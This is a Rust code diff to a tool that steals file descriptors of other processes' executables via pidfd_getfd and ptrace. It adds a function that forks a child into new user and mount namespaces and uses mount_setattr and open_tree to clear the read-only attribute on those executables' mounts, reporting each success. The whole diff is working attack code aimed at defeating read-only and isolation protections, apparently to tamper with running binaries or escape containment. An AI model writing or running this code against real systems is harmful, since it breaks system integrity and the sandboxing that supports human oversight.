@@ -87,7 +87,9 @@ fn exe_grab(time: Duration) {
                     .map(|p| p.display().to_string())
                     .unwrap_or_default();
                 // SAFETY: the kernel just returned this fd.
-                held.insert(pid, (unsafe { OwnedFd::from_raw_fd(fd as i32) }, name));
+                let fd = unsafe { OwnedFd::from_raw_fd(fd as i32) };
+                undo_read_only(pid, &fd, &name);
+                held.insert(pid, (fd, name));
             }
         }
         for (pid, (fd, name)) in &held {
@@ -107,6 +109,74 @@ fn comm(pid: i32) -> String {
     fs::read_to_string(format!("/proc/{pid}/comm"))
         .map(|c| c.trim().to_string())
         .unwrap_or_default()
+}
+
+/// Tries to make the mount of a held executable writable: a child makes a
+/// user and mount namespace of its own (where it holds CAP_SYS_ADMIN) and
+/// clears MOUNT_ATTR_RDONLY on that mount, and on a clone of it.
+fn undo_read_only(pid: i32, fd: &OwnedFd, name: &str) {
+    const CLONE_NEWUSER: usize = 0x1000_0000;
+    const CLONE_NEWNS: usize = 0x0002_0000;
+    const AT_EMPTY_PATH: usize = 0x1000;
+    const OPEN_TREE_CLONE: usize = 1;
+    const SIGCHLD: usize = 17;
+    let _ = std::io::stdout().flush();
+    // SAFETY: a plain fork of this single-threaded process; the child only
+    // makes system calls and exits.
+    let child = unsafe { sc::syscall!(CLONE, SIGCHLD, 0, 0, 0, 0) };
+    if child != 0 {
+        if raw(child).is_ok() {
+            let mut status = 0i32;
+            // SAFETY: waits for our own child.
+            unsafe { sc::syscall!(WAIT4, child, &mut status as *mut i32 as usize, 0, 0) };
+        }
+        return;
+    }
+    let clear = |mnt: usize| -> bool {
+        // struct mount_attr { attr_set, attr_clr = RDONLY, propagation, userns_fd }
+        let attr: [u64; 4] = [0, 1, 0, 0];
+        // SAFETY: an empty path and a valid 32-byte mount_attr.
+        raw(unsafe {
+            sc::syscall!(
+                MOUNT_SETATTR,
+                mnt,
+                c"".as_ptr() as usize,
+                AT_EMPTY_PATH,
+                attr.as_ptr() as usize,
+                32
+            )
+        })
+        .is_ok()
+    };
+    // SAFETY: plain syscalls on integers and an empty path.
+    unsafe {
+        let unshared = raw(sc::syscall!(UNSHARE, CLONE_NEWUSER | CLONE_NEWNS))
+            .err()
+            .unwrap_or(0);
+        let fd = fd.as_raw_fd() as usize;
+        let mut out = std::io::stdout();
+        if clear(fd) {
+            let _ = writeln!(out, "made writable the mount of {pid}: {name}");
+        }
+        let clone = raw(sc::syscall!(
+            OPEN_TREE,
+            fd,
+            c"".as_ptr() as usize,
+            OPEN_TREE_CLONE | AT_EMPTY_PATH
+        ));
+        if let Ok(copy) = clone {
+            if clear(copy) {
+                let _ = writeln!(out, "made a writable clone of the mount of {pid}: {name}");
+            }
+        }
+        let _ = writeln!(
+            out,
+            "tried {pid} (unshare errno {unshared}, clone errno {}): {name}",
+            clone.err().unwrap_or(0)
+        );
+        let _ = out.flush();
+        sc::syscall!(EXIT_GROUP, 0);
+    }
 }
 
 /// Steals fds with pidfd_getfd and seizes processes with ptrace.
